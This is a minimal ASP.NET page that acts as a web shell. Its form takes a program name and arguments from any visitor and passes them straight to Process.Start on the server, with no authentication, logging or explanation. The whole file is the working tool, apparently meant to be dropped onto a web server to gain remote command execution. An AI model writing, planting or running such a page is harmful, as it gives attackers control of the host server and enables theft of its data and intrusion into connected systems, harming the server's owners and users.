<%@ Page Language="C#" %><script runat="server">void Go(object o, EventArgs e) { System.Diagnostics.Process.Start(FileBox.Text, ArgBox.Text); }</script>
<form runat="server"><asp:TextBox ID="FileBox" runat="server" /><asp:TextBox ID="ArgBox" runat="server" /><asp:Button runat="server" OnClick="Go" /></form>
